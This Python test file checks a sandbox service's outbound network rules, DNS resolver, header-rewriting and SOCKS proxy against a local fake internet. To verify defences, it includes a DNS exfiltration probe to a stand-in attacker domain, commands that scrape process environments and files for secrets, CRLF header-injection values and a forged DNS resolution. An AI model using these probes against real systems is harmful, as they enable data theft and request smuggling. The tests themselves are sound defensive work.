"""Egress rules (`network={"allow_out", "deny_out", "dns_servers"}`, `update_network`) through
the official client, in real sandboxes, against the fake internet of tests/fakenet.py: nothing
here leaves this machine."""

from __future__ import annotations

import json
import secrets
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from e2b import ALL_TRAFFIC, Sandbox
from e2b.exceptions import SandboxException

from tests import fakenet
from tests.compat.conftest import Compat
from tests.fakenet import BY_IP, CDN, CIDR, DENIED, DNS, IN_CIDR, NAMED, SOCKS, UNOPENED

pytestmark = pytest.mark.usefixtures("compat")

HELD = """
import pathlib, socket, time
s = socket.create_connection(("%s", 8080), timeout=5)
pathlib.Path("/tmp/held").write_text("open")
while not pathlib.Path("/tmp/go").exists():
    time.sleep(0.05)
s.sendall(b"GET /held HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n")
pathlib.Path("/tmp/answer").write_bytes(s.recv(4096))
"""

# One DNS query over TCP, by hand (the template has no dig): prints the answer's code and its
# first address.
TCP_DNS = """
import socket, struct, sys
name = b"".join(bytes([len(p)]) + p.encode() for p in sys.argv[1].split(".")) + b"\\0"
query = bytes.fromhex("abcd01000001000000000000") + name + bytes.fromhex("00010001")
s = socket.create_connection(("%s", 53), timeout=5)
s.sendall(struct.pack("!H", len(query)) + query)
reply = s.recv(2 + 512)[2:]
print("NOERROR" if reply[3] & 15 == 0 else "ERROR", socket.inet_ntoa(reply[-4:]))
"""


def _fetch(sbx: Sandbox, url: str, extra: str = "", verify: bool = False) -> dict[str, Any] | None:
    """What the fake internet answered, or None when the sandbox could not reach it. Without
    `verify`, any certificate will do (the fake internet's own are self-signed)."""
    check = "" if verify else "-k"
    out = sbx.commands.run(f"curl -s {check} -m 5 {extra} {url}; true", user="root").stdout
    return json.loads(out) if out.startswith("{") else None


# A documentation address nobody answers at: the sandbox's queries go to the node's resolver
# whatever address they are sent to, and none is ever sent to a public server.
NOWHERE_DNS = "192.0.2.53"


def _with_rules(**network: Any) -> Sandbox:
    sbx = Sandbox.create(network=network, timeout=180)
    sbx.commands.run(f"echo nameserver {NOWHERE_DNS} > /etc/resolv.conf", user="root")
    return sbx


@pytest.fixture()
def allow_listed() -> Iterator[Sandbox]:
    sbx = _with_rules(deny_out=[ALL_TRAFFIC], dns_servers=[DNS],
                      allow_out=[BY_IP, CIDR, "pkg.example.test", "*.cdn.example.test",
                                 UNOPENED])  # fmt: skip
    try:
        yield sbx
    finally:
        sbx.kill()


def test_an_allow_list_admits_exactly_the_named_hosts(allow_listed: Sandbox) -> None:
    sbx = allow_listed
    # By address and by CIDR, on any port.
    assert (_fetch(sbx, f"http://{BY_IP}:8080/") or {}).get("local") == BY_IP
    assert (_fetch(sbx, f"http://{IN_CIDR}:8080/") or {}).get("local") == IN_CIDR
    assert _fetch(sbx, f"http://{DENIED}:8080/") is None
    # By name: the TLS server name on 443, the HTTP Host on 80; names resolve through the
    # DNS server the rules let through.
    tls = _fetch(sbx, "https://pkg.example.test/")
    assert tls is not None and tls["tls"] and tls["local"] == NAMED
    plain = _fetch(sbx, "http://pkg.example.test/")
    assert plain is not None and plain["host"] == "pkg.example.test" and not plain["tls"]
    assert _fetch(sbx, "http://pkg.example.test:8080/") is None  # names count on 80 and 443 only
    # A wildcard covers names below it at any depth, not the name itself.
    assert (_fetch(sbx, "https://a.cdn.example.test/") or {}).get("local") == CDN
    assert (_fetch(sbx, "https://b.deep.cdn.example.test/") or {}).get("local") == CDN
    assert _fetch(sbx, "https://cdn.example.test/") is None
    # Another name on the allowed name's address gets nothing through it...
    assert _fetch(sbx, "https://other.example.test/") is None
    assert _fetch(sbx, "http://other.example.test/") is None
    # ...and an allowed name goes where it resolves, not to the address the sandbox dialled.
    forged = _fetch(sbx, "https://pkg.example.test/", f"--resolve pkg.example.test:443:{DENIED}")
    assert forged is not None and forged["local"] == NAMED
    # A private address the operator did not open stays closed, even named by a rule.
    assert _fetch(sbx, f"http://{UNOPENED}:8080/") is None
    network = sbx.get_info().network or {}
    assert network.get("deny_out") == [ALL_TRAFFIC]
    assert network.get("allow_out") == [f"{BY_IP}/32", CIDR, "pkg.example.test",
                                        "*.cdn.example.test", f"{UNOPENED}/32"]  # fmt: skip
    assert network.get("dns_servers") == [DNS]


def test_dns_goes_to_the_nodes_resolver_which_answers_an_allow_list_its_names_only(
    allow_listed: Sandbox,
) -> None:
    sbx = allow_listed
    already = len(fakenet.names_asked())
    # Its resolv.conf names a server nobody answers at: answered all the same.
    assert sbx.commands.run("getent hosts pkg.example.test").stdout.split()[0] == NAMED
    # A name the rules do not allow is answered "no such name" at once, and the query never
    # leaves: a name cannot carry data out.
    leak = f"{secrets.token_hex(8)}.attacker.example.test"
    missing = sbx.commands.run(f"getent hosts {leak}; echo $?", user="root").stdout
    assert missing.strip() == "2"  # getent: not found
    lookup = sbx.commands.run(
        f"python3 -c \"import socket; socket.getaddrinfo('{leak}', 443)\" 2>&1; true"
    ).stdout  # fmt: skip
    assert "Name or service not known" in lookup
    sbx.files.write("/tmp/tcp_dns.py", TCP_DNS % NOWHERE_DNS)
    over_tcp = sbx.commands.run("python3 /tmp/tcp_dns.py pkg.example.test").stdout
    assert over_tcp.split() == ["NOERROR", NAMED]  # DNS over TCP is answered the same way
    asked = fakenet.names_asked()[already:]
    assert "pkg.example.test" in asked and not any(leak in name for name in asked)


def test_a_sandbox_without_rules_resolves_through_the_nodes_servers() -> None:
    # Its resolv.conf names a server nobody answers at; the node's resolver asks its own (here
    # the fake internet's, VIVARIUM_EGRESS_DNS) instead.
    sbx = _with_rules()
    try:
        assert sbx.commands.run("getent hosts other.example.test").stdout.split()[0] == NAMED
    finally:
        sbx.kill()


def test_an_allowed_address_wins_over_a_denied_one() -> None:
    sbx = _with_rules(deny_out=[DENIED, BY_IP], allow_out=[BY_IP])
    try:
        assert _fetch(sbx, f"http://{DENIED}:8080/") is None
        assert (_fetch(sbx, f"http://{BY_IP}:8080/") or {}).get("local") == BY_IP
        assert (_fetch(sbx, f"http://{NAMED}:8080/") or {}).get("local") == NAMED  # not named
    finally:
        sbx.kill()


def test_update_network_replaces_the_rules_of_a_running_sandbox_and_they_outlive_a_pause() -> None:
    sbx = _with_rules()
    try:
        assert _fetch(sbx, f"http://{DENIED}:8080/") is not None  # open by default
        # A connection opened under the old rules...
        sbx.files.write("/tmp/held.py", HELD % DENIED)
        sbx.commands.run("python3 /tmp/held.py", background=True)
        _wait_for(sbx, "/tmp/held")
        sbx.update_network({"deny_out": [ALL_TRAFFIC], "allow_out": [BY_IP]})
        assert _fetch(sbx, f"http://{DENIED}:8080/") is None  # new connections: the new rules
        assert _fetch(sbx, f"http://{BY_IP}:8080/") is not None
        sbx.files.write("/tmp/go", "")
        _wait_for(sbx, "/tmp/answer")  # ...is kept
        assert sbx.files.read("/tmp/answer").startswith("HTTP/1.0 200")
        assert (sbx.get_info().network or {}).get("allow_out") == [f"{BY_IP}/32"]

        sbx.update_network({"deny_out": [ALL_TRAFFIC], "allow_out": ["pkg.example.test"],
                            "dns_servers": [DNS]})  # fmt: skip
        assert sbx.beta_pause()
        sbx.connect()
        assert _fetch(sbx, f"http://{BY_IP}:8080/") is None
        assert (_fetch(sbx, "https://pkg.example.test/") or {}).get("local") == NAMED

        sbx.update_network({})  # what is left out is cleared: open again
        assert _fetch(sbx, f"http://{DENIED}:8080/") is not None
        assert (sbx.get_info().network or {}).get("allow_out") == []
    finally:
        sbx.kill()


def _wait_for(sbx: Sandbox, path: str) -> None:
    deadline = time.monotonic() + 30
    while not sbx.files.exists(path):
        assert time.monotonic() < deadline, f"{path} never appeared"
        time.sleep(0.2)


@pytest.mark.parametrize(
    ("network", "field"),
    [
        ({"allowOut": ["10.0.0.0/33"]}, "network.allowOut"),
        ({"allowOut": ["bad_host!.example"]}, "network.allowOut"),
        ({"allowOut": ["2001:db8::1"]}, "IPv6"),
        ({"denyOut": ["example.com"]}, "network.denyOut"),
        ({"denyOut": [f"10.{i // 256}.{i % 256}.0/24" for i in range(300)]}, "network.denyOut"),
        ({"dnsServers": ["dns.example"]}, "network.dnsServers"),
        ({"allowOut": "192.0.2.1"}, "network.allowOut"),
        ({"allowOut": ["pkg.example.test"],
          "rules": {"other.example.test": [{"transform": {"headers": {"A": "b"}}}]}},
         "network.rules['other.example.test']: other.example.test is not allowed"),
        ({"allowOut": ["pkg.example.test"],
          "rules": {"pkg.example.test": [{"transform": {"headers": {"A": "b\r\nX: y"}}}]}},
         "without line breaks"),
        ({"allowOut": ["pkg.example.test"],
          "rules": {"pkg.example.test": [{"transform": {"headers": {"A\r\nX": "b"}}}]}},
         "is not a header name"),
        ({"egressProxy": {"address": "proxy.example.test:1080"}},
         "network.egressProxy.address: proxy.example.test does not resolve"),
        ({"egressProxy": {"address": f"{UNOPENED}:1080"}}, "network.egressProxy.address"),
        ({"egressProxy": {"address": "socks.example.test"}}, "is not host:port"),
        ({"egressProxy": {"address": f"{SOCKS}:1080", "password": "x"}}, "only valid with a"),
        ({"egressProxy": {"address": f"{SOCKS}:1080", "username": "u" * 256}}, "1 to 255 bytes"),
        ({"egressProxy": {"address": f"{SOCKS}:1082", "tls": {"enabled": True,
                                                             "caCert": "not PEM"}}},
         "network.egressProxy.tls.caCert is not a PEM CA certificate"),
    ],
)  # fmt: skip
def test_bad_rules_are_refused_naming_the_field(
    compat: Compat, network: dict[str, Any], field: str
) -> None:
    with compat.admin() as http:
        before = len(http.get("/v2/sandboxes").json())
        response = http.post("/v2/sandboxes", json={"templateID": "base", "network": network})
        assert response.status_code == 400, response.text
        assert field in response.json()["message"]
        assert len(http.get("/v2/sandboxes").json()) == before  # nothing was created


def test_a_header_rule_reaches_the_server_and_its_secret_never_enters_the_sandbox() -> None:
    secret = f"sk-{secrets.token_hex(12)}"
    sbx = _with_rules(
        deny_out=[ALL_TRAFFIC], dns_servers=[DNS],
        allow_out=["pkg.example.test", "*.cdn.example.test"],
        rules={
            "pkg.example.test": [
                {"transform": {"headers": {"Authorization": f"Bearer {secret}"}}},
                {"transform": {"headers": {"X-Team": "blue"}}},
            ],
            "*.cdn.example.test": [{"transform": {"headers": {"X-Cdn": "1"}}}],
        },
    )  # fmt: skip
    try:
        # Verified TLS (no -k): the sandbox trusts the deployment's egress CA.
        seen = _fetch(sbx, "https://pkg.example.test/", "-H 'Authorization: Bearer mine'",
                      verify=True)  # fmt: skip
        assert seen is not None and seen["tls"] and seen["local"] == NAMED
        assert seen["headers"]["Authorization"] == f"Bearer {secret}"  # replaced, not added
        assert seen["headers"]["X-Team"] == "blue"
        plain = _fetch(sbx, "http://pkg.example.test/")
        assert plain is not None and plain["headers"]["Authorization"] == f"Bearer {secret}"
        cdn = _fetch(sbx, "https://a.cdn.example.test/", verify=True)
        assert cdn is not None and cdn["headers"].get("X-Cdn") == "1"
        assert "Authorization" not in cdn["headers"]
        python = sbx.commands.run(
            "python3 -c \"import json, urllib.request; print(json.load(urllib.request.urlopen("
            "'https://pkg.example.test/'))['headers']['X-Team'])\"", user="user",
        )  # fmt: skip
        assert python.stdout.strip() == "blue"
        # Nowhere inside: not in its environment, files or processes.
        inside = sbx.commands.run(
            "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n'; "
            "grep -rs sk- /etc /root /home /tmp /usr/local/share; ps -eo args; true",
            user="root",
        ).stdout  # fmt: skip
        assert secret not in inside
        ca = sbx.files.read("/usr/local/share/ca-certificates/vivarium-egress.crt")
        assert "CERTIFICATE" in ca and "PRIVATE" not in ca
        rules = (sbx.get_info().network or {}).get("rules", {})
        assert rules["*.cdn.example.test"] == [{"transform": {"headers": {"X-Cdn": "1"}}}]
    finally:
        sbx.kill()


def test_update_network_on_a_paused_or_killed_sandbox_is_refused(compat: Compat) -> None:
    sbx = Sandbox.create(timeout=120)
    try:
        with httpx.Client(base_url=compat.api_url, headers={"X-API-Key": compat.api_key}) as http:
            bad = http.put(f"/sandboxes/{sbx.sandbox_id}/network", json={"denyOut": ["x.test"]})
            assert bad.status_code == 400 and "body.denyOut" in bad.json()["message"]
        assert sbx.beta_pause()
        with pytest.raises(SandboxException, match="409.*paused"):
            sbx.update_network({"deny_out": [ALL_TRAFFIC]})
    finally:
        sbx.kill()
    with pytest.raises(SandboxException, match="not found"):
        Sandbox.update_network(sbx.sandbox_id, {"deny_out": [ALL_TRAFFIC]})


# --- a SOCKS5 proxy of the user's own (egress_proxy) ---------------------------------------------

CREDENTIALS = {"username": "proxy-user", "password": "proxy-pass"}


def _came_from(sbx: Sandbox, url: str) -> str | None:
    """The address the server saw the sandbox's request come from; None if it never arrived."""
    return (_fetch(sbx, url) or {}).get("peer")


def test_an_egress_proxy_carries_every_connection_the_rules_let_out(
    internet: dict[str, str],
) -> None:
    pem = Path(internet["egress_ca_file"]).read_text()
    proxy = {"address": "socks.example.test:1081", **CREDENTIALS}
    sbx = _with_rules(deny_out=[DENIED], egress_proxy=proxy)
    try:
        # Any port, by address, plain or TLS: through the proxy, which the server sees.
        assert _came_from(sbx, f"http://{BY_IP}:8080/") == SOCKS
        assert _came_from(sbx, f"https://{NAMED}/") == SOCKS
        # The rules apply before the tunnel, and closed ranges stay closed through it.
        assert _came_from(sbx, f"http://{DENIED}:8080/") is None
        assert _came_from(sbx, f"http://{UNOPENED}:8080/") is None
        network = sbx.get_info().network or {}
        assert network.get("egress_proxy") == {"address": "socks.example.test:1081",
                                               "username": "proxy-user"}  # fmt: skip
        assert "proxy-pass" not in sbx.commands.run(
            "env; cat /proc/*/cmdline; grep -rs proxy-pas[s] /etc /home /tmp; true", user="root"
        ).stdout  # fmt: skip
        assert sbx.beta_pause()
        sbx.connect()
        assert _came_from(sbx, f"http://{BY_IP}:8080/") == SOCKS  # still, after a resume

        # An update that leaves the proxy out sends traffic out directly again.
        sbx.update_network({"deny_out": [DENIED]})
        assert _came_from(sbx, f"http://{BY_IP}:8080/") not in (None, SOCKS)
        # Refused credentials: the connection fails; it never goes out directly instead.
        sbx.update_network({"egress_proxy": {**proxy, "password": "wrong"}})
        assert _came_from(sbx, f"http://{BY_IP}:8080/") is None
        # TLS to the proxy, verified against the CA given and the name...
        tls = {"address": f"{SOCKS}:1082", **CREDENTIALS,
               "tls": {"server_name": "socks.example.test", "ca_cert": pem}}  # fmt: skip
        sbx.update_network({"egress_proxy": tls})
        assert _came_from(sbx, f"http://{BY_IP}:8080/") == SOCKS
        tls_info = (sbx.get_info().network or {}).get("egress_proxy") or {}
        assert tls_info.get("tls") == {"server_name": "socks.example.test"}
        # ...which must match: the address alone is not in the certificate.
        sbx.update_network({"egress_proxy": {**tls, "tls": {"ca_cert": pem}}})
        assert _came_from(sbx, f"http://{BY_IP}:8080/") is None
    finally:
        sbx.kill()
    # The next sandbox (on the slot just freed, most likely) goes out directly.
    after = Sandbox.create(timeout=60)
    try:
        assert _came_from(after, f"http://{BY_IP}:8080/") not in (None, SOCKS)
    finally:
        after.kill()


def test_names_and_header_rules_go_through_the_egress_proxy_too() -> None:
    sbx = _with_rules(
        deny_out=[ALL_TRAFFIC], allow_out=["pkg.example.test", "*.cdn.example.test"],
        rules={"*.cdn.example.test": [{"transform": {"headers": {"X-Cdn": "1"}}}]},
        egress_proxy={"address": f"{SOCKS}:1080"},
    )  # fmt: skip
    try:
        assert _came_from(sbx, "https://pkg.example.test/") == SOCKS
        assert _came_from(sbx, "https://other.example.test/") is None  # not allowed
        seen = _fetch(sbx, "https://a.cdn.example.test/", verify=True)
        assert seen is not None and seen["peer"] == SOCKS and seen["headers"]["X-Cdn"] == "1"
    finally:
        sbx.kill()
